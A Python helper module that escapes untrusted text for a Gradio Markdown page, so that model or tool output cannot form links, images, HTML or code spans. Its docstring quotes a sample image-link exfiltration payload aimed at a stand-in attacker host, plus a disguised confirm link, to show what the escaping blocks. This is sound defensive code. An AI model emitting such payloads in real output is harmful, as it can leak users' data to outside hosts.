"""What the built-in page shows of text a model, ss-tools or a user wrote (README.md, "Safety
properties"): answers, errors, tool titles, inputs and outputs, a card's prompt, role and
alternatives.

Gradio renders the page's messages as Markdown (marked, then DOMPurify); text passed through
here is shown as the characters it is, so `![](https://attacker/?d=…)` loads no image and
`[Подтвердить](https://evil)` puts no link inside a card.
"""

from __future__ import annotations

import json
import string
from typing import Any

# Every ASCII punctuation character backslash-escaped: CommonMark (and marked, Gradio's renderer)
# reads each as itself, so nothing in the text can open a link, an image, a code span, HTML, a
# list or a heading. One pass of str.translate: linear in the text.
_PLAIN = str.maketrans({c: "\\" + c for c in string.punctuation})


def plain(text: Any) -> str:
    """Text someone else wrote, for a Markdown component: shown as is, line breaks kept."""
    return str(text).translate(_PLAIN)


def json_block(value: Any) -> str:
    """A code block of JSON; a backtick (only ever inside a JSON string) as its \\u escape,
    so the text cannot close the block and go on as Markdown."""
    text = json.dumps(value, ensure_ascii=False, indent=1)[:1500].replace("`", "\\u0060")
    return "```json\n" + text + "\n```"
